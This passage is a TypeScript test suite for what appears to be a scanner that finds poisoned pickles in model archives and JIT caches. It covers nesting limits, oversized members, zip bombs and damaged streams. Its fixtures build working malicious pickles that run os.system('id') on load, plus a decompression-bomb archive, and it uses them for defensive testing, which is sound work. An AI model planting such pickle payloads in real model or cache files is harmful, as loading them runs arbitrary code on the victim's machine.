  return Buffer.concat([...locals, dir, end]);
}

/** The red team's payload: `os.system('id')` through GLOBAL (protocol 2), GLOBAL at byte 2, REDUCE at byte 21. */
const EVIL = Buffer.from('\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R.', 'latin1');

/** `depth` times: EVIL (or the last archive) as `a/data.pkl` of a stored zip, that zip as a pickled bytes value. */
function nestedArchive(depth: number): Buffer {
  let inner: Buffer = EVIL;
  let zip: Buffer = Buffer.alloc(0);
  for (let i = 0; i < depth; i++) {
    zip = zipOf([{ name: 'a/data.pkl', data: inner }]);
    inner = bytesPickle(zip);
  }
  return zip;
}

/** A pickle that calls os.system at its start, then `filler` bytes of `N0` (push None, pop it), `N` and STOP. */
function longPickle(filler: number): Buffer {
  return Buffer.concat([Buffer.from('cos\nsystem\nX\x02\x00\x00\x00id\x85R0', 'latin1'), Buffer.alloc(filler, 'N0'), Buffer.from('N.')]);
}

describe('cache trees: limits are never silent', () => {
  const dirs: string[] = [];
  const fresh = (name: string): string => {
    const d = tempDir(name);
    dirs.push(d);
    return d;
  };
  after(() => dirs.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));
  const rows = (r: CacheScanResult): unknown[] =>
    r.findings.map((f) => [f.evidence.cache.check, f.evidence.cache.member, f.evidence.cache.import ?? null, f.confidence]);

  it(`follows zip-in-pickle nesting ${NESTED_DEPTH} levels deep, and reports a pickle nested deeper as nested-too-deep`, async () => {
    const level = (n: number): string => Array.from({ length: n }, () => 'a/data.pkl').join(' > zip archive at byte 7 > ');
    for (const depth of [1, 2, 3, 4, 5, 10, 50, 200]) {
      const base = fresh(`deep${depth}`);
      fs.writeFileSync(path.join(base, 'deep.pt'), nestedArchive(depth));
      const r = await scan([base], base);
      assert.deepEqual(r.warnings, [], `depth ${depth}`);
      if (depth <= NESTED_DEPTH + 1) {
        assert.deepEqual(rows(r), [['pickle-import', level(depth), 'os.system', 'high']], `depth ${depth}`);
        assert.deepEqual([r.findings[0]!.evidence.cache.offset, r.findings[0]!.evidence.cache.call?.offset], [2, 21]);
      } else {
        const member = `${level(NESTED_DEPTH + 1)} > zip archive at byte 7`;
        assert.deepEqual(rows(r), [['nested-too-deep', member, null, 'medium']], `depth ${depth}`);
        const f = r.findings[0]!;
        assert.equal(f.ruleId, 'JIT-CACHE-POISONING');
        assert.equal(f.evidence.path, 'deep.pt');
        assert.match(f.evidence.signal, new RegExp(`nested ${NESTED_DEPTH + 1} levels deep inside pickles, past the limit of ${NESTED_DEPTH}`));
        assert.match(f.evidence.signal, /was not inspected/);
      }
    }
  });

  it('reports pickles nested in pickles past the limit too, but not bytes at the limit that only start like a pickle', async () => {
    const base = fresh('deep-pickles');
    const root = path.join(base, 'cache');
    fs.mkdirSync(root);
    fs.writeFileSync(path.join(root, 'k.f-1.py311.nbi'), Buffer.from([0x80, 5, 0x8c, 1, 0x31, 0x2e, 0x80, 5, 0x4e, 0x2e]));
    let deep: Buffer = SYSTEM_PICKLE;
    let fake: Buffer = Buffer.from([0x80, 4, 0xff, 0x00, 0x13, 0x37]);
    for (let i = 0; i <= NESTED_DEPTH; i++) {
      deep = bytesPickle(deep);
      fake = bytesPickle(fake);
    }
    fs.writeFileSync(path.join(root, 'a.nbc'), deep);
    fs.writeFileSync(path.join(root, 'b.nbc'), fake);
    const r = await scan([base], base);
    assert.deepEqual(rows(r), [['nested-too-deep', 'pickle at byte 7 > pickle at byte 14 > pickle at byte 21', null, 'medium']]);
    assert.equal(r.findings[0]!.evidence.path, 'cache/a.nbc');
    assert.deepEqual(r.warnings, []);
  });

  it('disassembles the first --max-file-size bytes of a larger deflated pickle member, with the too-large warning', async () => {
    const base = fresh('big-member');
    fs.writeFileSync(path.join(base, 'model.pt'), zipOf([{ name: 'archive/data.pkl', data: longPickle(16 * MIB), deflate: true }]));
    const r = await scan([base], base);
    assert.deepEqual(rows(r), [['pickle-import', 'archive/data.pkl', 'os.system', 'high']]);
    assert.deepEqual(r.warnings, [
      { code: 'too-large', path: 'model.pt', message: `member archive/data.pkl is ${16 * MIB + 23} bytes, over the ${MIB}-byte limit (--max-file-size); only the first ${MIB} bytes were disassembled` },
    ]);
  });

  it('inflates no more than the limit whatever size the headers declare, and says so', async () => {
    const buf = zipOf([{ name: 'archive/data.pkl', data: longPickle(64 * MIB), deflate: true, declared: 100 }]);
    const [entry] = readZipDirectory(bufferSource(buf));
    const read = await readZipEntry(bufferSource(buf), entry!, MIB);
    assert.deepEqual([read.data.length, read.truncated, read.error], [MIB, true, undefined]);
    const base = fresh('liar');
    fs.writeFileSync(path.join(base, 'model.pt'), buf);
    const r = await scan([base], base);
    assert.deepEqual(rows(r), [['pickle-import', 'archive/data.pkl', 'os.system', 'high']]);
    assert.deepEqual(r.warnings.map((w) => w.message), [
      `member archive/data.pkl inflates to more than the 100 bytes its header declares, over the ${MIB}-byte limit (--max-file-size); only the first ${MIB} bytes were disassembled`,
    ]);
  });

  it('disassembles what inflated before a damaged deflate stream, with a warning', async () => {
    // A sync-flushed stream ends on a byte boundary; a stored block whose LEN and NLEN disagree follows.
    const body = Buffer.concat([zlib.deflateRawSync(longPickle(1000), { finishFlush: zlib.constants.Z_SYNC_FLUSH }), Buffer.from([0, 5, 0, 0, 0])]);
    const zip = zipOf([{ name: 'archive/data.pkl', data: body }]);
    // Mark the stored member as deflated: the body above is raw deflate data.
    zip.writeUInt16LE(8, 8);
    zip.writeUInt16LE(8, zip.indexOf(Buffer.from([0x50, 0x4b, 1, 2])) + 10);
    const base = fresh('damaged');
    fs.writeFileSync(path.join(base, 'model.pt'), zip);
    const r = await scan([base], base);
    assert.deepEqual(rows(r), [['pickle-import', 'archive/data.pkl', 'os.system', 'high']]);
    assert.equal(r.warnings.length, 1, JSON.stringify(r.warnings));
    assert.equal(r.warnings[0]!.code, 'parse-error');
    assert.match(r.warnings[0]!.message, /^member archive\/data\.pkl cannot be inflated past byte 1023: .*; the first 1023 bytes were disassembled$/);
  });

  it('stops inflating members of one file at its budget, naming the member where it stopped', async () => {
    const base = fresh('bomb');
    // One 2 MiB member listed 40 times: 80 MiB to inflate from a few kilobytes.
    fs.writeFileSync(path.join(base, 'bomb.pt'), zipOf([{ name: 'archive/data.pkl', data: longPickle(2 * MIB), deflate: true }], 40));
    const r = await scan([base], base);
    assert.equal(r.findings.length, 16);
    assert.ok(r.findings.every((f) => f.evidence.cache.import === 'os.system'));
    const budget = r.warnings.filter((w) => w.message.includes('budget') || w.message.includes('were not read'));
    assert.deepEqual(budget.map((w) => w.message), [`${16 * MIB} bytes of archive members were disassembled (16 times the ${MIB}-byte limit); member archive/data.pkl.16.pkl and the 23 pickle member(s) after it were not read`]);
    assert.equal(r.warnings.length, 17, 'each member read is over the limit, and says so');
  });

  it('reports a code-running call in a nested pickle that breaks off after it, with a warning; other damaged look-alikes stay quiet', async () => {
    const base = fresh('nested-damaged');
    const root = path.join(base, 'cache');
    fs.mkdirSync(root);
    fs.writeFileSync(path.join(root, 'k.f-1.py311.nbi'), Buffer.from([0x80, 5, 0x8c, 1, 0x31, 0x2e, 0x80, 5, 0x4e, 0x2e]));
    // SYSTEM_PICKLE with its STOP replaced by a byte that is no opcode: pickle.loads runs os.system, then fails.
    const broken = Buffer.concat([SYSTEM_PICKLE.subarray(0, SYSTEM_PICKLE.length - 1), Buffer.from([0xff])]);
    fs.writeFileSync(path.join(root, 'a.nbc'), bytesPickle(broken));
    // A foreign but not code-running global, cut off: bytes that may merely look like a pickle, so quiet.
    fs.writeFileSync(path.join(root, 'b.nbc'), bytesPickle(Buffer.from('\x80\x02ccollections\nOrderedDict\n)R\xff', 'latin1')));
    const r = await scan([base], base);
    assert.deepEqual(rows(r), [['pickle-import', 'pickle at byte 7', 'os.system', 'high']]);
    assert.deepEqual(r.warnings.map((w) => [w.code, w.path, w.message]), [
      ['parse-error', 'cache/a.nbc', 'pickle at byte 7: pickle is malformed: byte 0xff at byte 32 is not a pickle opcode; the opcodes before byte 32 were checked, the rest was not read'],
    ]);
  });

  it('warns about a damaged zip archive nested in a pickle, and about nested members over the limit', async () => {
    const base = fresh('nested-zip');
    const root = path.join(base, 'cache');
    fs.mkdirSync(root);
    fs.writeFileSync(path.join(root, 'k.f-1.py311.nbi'), Buffer.from([0x80, 5, 0x8c, 1, 0x31, 0x2e, 0x80, 5, 0x4e, 0x2e]));
    fs.writeFileSync(path.join(root, 'a.nbc'), bytesPickle(Buffer.from('PK\x03\x04 not really a zip')));
    fs.writeFileSync(path.join(root, 'b.nbc'), bytesPickle(zipOf([{ name: 'archive/data.pkl', data: longPickle(2 * MIB), deflate: true }])));
    const r = await scan([base], base);
    assert.deepEqual(rows(r), [['pickle-import', 'zip archive at byte 7 > archive/data.pkl', 'os.system', 'high']]);
    assert.deepEqual(
      sortByJson(r.warnings.map((w) => [w.code, w.path, w.message.replace(/ \(at byte \d+\)/, '')])),
      [
        ['parse-error', 'cache/a.nbc', 'zip archive at byte 7: zip archive has no end-of-central-directory record (not a zip archive, or cut off); not disassembled'],
        ['too-large', 'cache/b.nbc', `member zip archive at byte 7 > archive/data.pkl is ${2 * MIB + 23} bytes, over the ${MIB}-byte limit (--max-file-size); only the first ${MIB} bytes were disassembled`],
      ],
    );
  });
});
